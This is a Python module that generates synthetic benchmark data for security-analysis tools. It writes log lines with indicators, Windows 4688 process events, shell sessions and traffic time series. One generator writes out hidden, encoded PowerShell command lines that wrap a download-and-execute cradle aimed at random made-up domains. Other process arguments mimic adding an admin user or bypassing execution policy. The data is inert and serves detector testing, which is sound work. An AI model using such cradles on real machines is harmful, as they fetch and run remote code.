"""Seeded generators for the benchmark workloads.

Every workload is written to files once per size and seed; msticpy and huntbook then read the
same files in the same run. The text is realistic enough for the tools to do real work: log
lines with IPs, domains, URLs, hashes and paths, some of them defanged; command lines with
base64-encoded PowerShell and gzip/zip payloads.
"""

from __future__ import annotations

import base64
import csv
import gzip
import hashlib
import io
import random
import zipfile
from pathlib import Path

WORDS = (
    "accepted failed session opened closed user admin service started stopped connection "
    "from to port process created network logon token request response error warning"
).split()
TLDS = ["com", "net", "org", "io", "ru", "cn", "info", "co.uk", "de"]
PATH_DIRS = ["Windows", "System32", "Users", "Public", "AppData", "Temp", "ProgramData"]


def _ip(rng: random.Random) -> str:
    return ".".join(str(rng.randint(1, 254)) for _ in range(4))


def _domain(rng: random.Random) -> str:
    name = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(4, 10)))
    return f"{name}.{rng.choice(TLDS)}"


def _indicator(rng: random.Random) -> str:
    kind = rng.randrange(9)
    if kind == 0:
        return _ip(rng)
    if kind == 1:
        return _domain(rng)
    if kind == 2:
        return f"https://{_domain(rng)}/{rng.choice(WORDS)}/{rng.randint(1, 9999)}.php?id={rng.randint(1, 99)}"
    if kind == 3:
        return hashlib.md5(rng.randbytes(8)).hexdigest()
    if kind == 4:
        return hashlib.sha256(rng.randbytes(8)).hexdigest()
    if kind == 5:
        parts = rng.sample(PATH_DIRS, 3)
        return "C:\\" + "\\".join(parts) + f"\\{rng.choice(WORDS)}.exe"
    if kind == 6:
        return f"{rng.choice(WORDS)}@{_domain(rng)}"
    if kind == 7:
        return _ip(rng).replace(".", "[.]")
    return f"hxxp://{_domain(rng).replace('.', '[.]')}/x"


def log_line(rng: random.Random) -> str:
    words = [rng.choice(WORDS) for _ in range(rng.randint(6, 14))]
    for _ in range(rng.randint(0, 3)):
        words.insert(rng.randrange(len(words) + 1), _indicator(rng))
    return " ".join(words)


def write_ioc_text(path: Path, megabytes: int, seed: int = 1) -> Path:
    """About `megabytes` MB of log text, one event per line."""
    rng = random.Random(seed)
    target = megabytes * 1_000_000
    written = 0
    with path.open("w", encoding="utf-8") as out:
        while written < target:
            line = log_line(rng) + "\n"
            out.write(line)
            written += len(line)
    return path


def write_ioc_rows(path: Path, rows: int, seed: int = 2) -> Path:
    """A CSV of `rows` events with a `CommandLine` column holding the text to search."""
    rng = random.Random(seed)
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["EventId", "Computer", "CommandLine"])
        for i in range(rows):
            writer.writerow([i, f"host{rng.randint(1, 50)}", log_line(rng)])
    return path


def _b64_payload(rng: random.Random) -> str:
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://{_domain(rng)}/{rng.randint(1, 999)}.ps1')"
    kind = rng.randrange(3)
    if kind == 0:
        raw = script.encode("utf-16-le")
    elif kind == 1:
        raw = gzip.compress(script.encode(), mtime=0)
    else:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{rng.choice(WORDS)}.ps1", script)
        raw = buf.getvalue()
    return base64.b64encode(raw).decode()


def write_b64_rows(path: Path, rows: int, seed: int = 3) -> Path:
    """A CSV of `rows` command lines, each carrying one base64 payload."""
    rng = random.Random(seed)
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["EventId", "CommandLine"])
        for i in range(rows):
            writer.writerow([i, f"powershell.exe -nop -w hidden -enc {_b64_payload(rng)}"])
    return path


# --- Process events, sessions, time series, addresses (issue 5 and 6 workloads) ---------

IMAGES = [
    r"C:\Windows\System32\cmd.exe",
    r"C:\Windows\System32\svchost.exe",
    r"C:\Windows\System32\conhost.exe",
    r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
    r"C:\Windows\System32\whoami.exe",
    r"C:\Windows\System32\net.exe",
    r"C:\Windows\System32\rundll32.exe",
    r"C:\Windows\System32\wbem\WmiPrvSE.exe",
    r"C:\Windows\System32\taskhostw.exe",
    r"C:\Program Files\Mozilla Firefox\firefox.exe",
    r"C:\Windows\System32\reg.exe",
    r"C:\Windows\System32\schtasks.exe",
]
ARGS = ["/c dir", "-k netsvcs", "-nop -w hidden", "/all", "user admin /add", "query HKLM\\Run",
        "/create /tn upd /tr x.exe", "-ExecutionPolicy Bypass -File a.ps1", "/priv", "--type=gpu"]
EVENTS_PER_HOST = 20_000


def _cached(path: Path) -> bool:
    """True when an earlier run already wrote this file (names carry size and seed)."""
    return path.exists() and path.stat().st_size > 0


def write_4688_events(path: Path, rows: int, seed: int = 4) -> Path:
    """Windows Security 4688 events as Sentinel's SecurityEvent exports them (CSV).

    One host per 20,000 events; each process's parent is one of its host's long-lived
    processes or a recent process, so trees are realistic in depth; hex pids drawn from a
    small space are reused, as on a busy Windows host.
    """
    if _cached(path):
        return path
    rng = random.Random(seed)
    hosts = max(1, rows // EVENTS_PER_HOST)
    live: dict[int, list[tuple[str, str]]] = {
        h: [(f"0x{rng.randrange(0x100, 0x4000) * 4:x}", r"C:\Windows\System32\services.exe")
            for _ in range(30)]
        for h in range(hosts)
    }
    recent: dict[int, list[tuple[str, str]]] = {h: [] for h in range(hosts)}
    base = 1_700_000_000.0
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["TimeGenerated", "EventID", "Computer", "SubjectUserSid",
                         "SubjectUserName", "SubjectLogonId", "NewProcessId", "NewProcessName",
                         "ProcessId", "ParentProcessName", "CommandLine", "TargetLogonId"])
        for i in range(rows):
            host = i % hosts
            pool = live[host] if rng.random() < 0.5 or not recent[host] else recent[host]
            parent_pid, parent_name = rng.choice(pool)
            image = rng.choice(IMAGES)
            pid = f"0x{rng.randrange(0x100, 0x4000) * 4:x}"
            stamp = base + i * 0.05 * hosts
            when = time_text(stamp)
            system = rng.random() < 0.3
            writer.writerow([
                when, 4688, f"host{host:03d}.contoso.com",
                "S-1-5-18" if system else f"S-1-5-21-1000-{rng.randrange(50)}",
                "SYSTEM" if system else f"user{rng.randrange(50)}",
                "0x3e7" if system else f"0x{rng.randrange(0x10000, 0xfffff):x}",
                pid, image, parent_pid, parent_name,
                f"{image.rsplit(chr(92), 1)[-1]} {rng.choice(ARGS)} {rng.randrange(1000)}",
                "0x0",
            ])
            recent[host].append((pid, image))
            if len(recent[host]) > 40:
                recent[host].pop(0)
    return path


def time_text(epoch: float) -> str:
    """ISO 8601 UTC with milliseconds, as Log Analytics exports write it."""
    import datetime as dt

    moment = dt.datetime.fromtimestamp(epoch, tz=dt.timezone.utc)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{moment.microsecond // 1000:03d}Z"


COMMANDS = ["ls", "cd", "cat", "grep", "ps", "top", "vim", "git", "make", "ssh", "scp", "curl",
            "wget", "chmod", "chown", "tar", "python", "sudo", "kill", "df", "du", "find",
            "echo", "history", "whoami", "id", "uname", "netstat", "nc", "crontab"]


def write_sessions(path: Path, sessions: int, seed: int = 5) -> Path:
    """JSON lines, one session a line: {"user": ..., "session": [commands]}.

    Commands follow a skewed first-order chain (each command has a few likely successors),
    so most sessions look alike and a few are rare, as in real shell histories.
    """
    if _cached(path):
        return path
    import json

    rng = random.Random(seed)
    successors = {c: rng.sample(COMMANDS, 4) for c in COMMANDS}
    with path.open("w", encoding="utf-8") as out:
        for i in range(sessions):
            command = rng.choice(COMMANDS[:8])
            session = [command]
            for _ in range(rng.randint(0, 14)):
                command = rng.choice(successors[command]) if rng.random() < 0.9 \
                    else rng.choice(COMMANDS)
                session.append(command)
            out.write(json.dumps({"user": f"user{i % 500:04d}", "session": session}) + "\n")
    return path


def write_time_series(path: Path, points: int, seed: int = 6) -> Path:
    """Hourly byte counts with a daily cycle, a slow trend, noise and a few spikes (CSV)."""
    if _cached(path):
        return path
    import math

    rng = random.Random(seed)
    base = 1_700_000_000 - 1_700_000_000 % 3600
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["TimeGenerated", "TotalBytesSent"])
        for h in range(points):
            value = 1e6 + 4e5 * math.sin(2 * math.pi * (h % 24) / 24) + 50 * h
            value += rng.gauss(0, 3e4)
            if rng.random() < 0.002:
                value += 2e6
            writer.writerow([time_text(base + h * 3600), int(value)])
    return path


def write_addresses(path: Path, rows: int) -> Path:
    """A CSV column `ip` of addresses spread over the IPv4 space (a multiplicative hash)."""
    if _cached(path):
        return path
    with path.open("w", encoding="utf-8") as out:
        out.write("ip\n")
        for i in range(rows):
            n = ((i * 2_654_435_761) & 0xFFFFFFFF) ^ 0x5BD1E995
            out.write(f"{n >> 24}.{(n >> 16) & 255}.{(n >> 8) & 255}.{n & 255}\n")
    return path
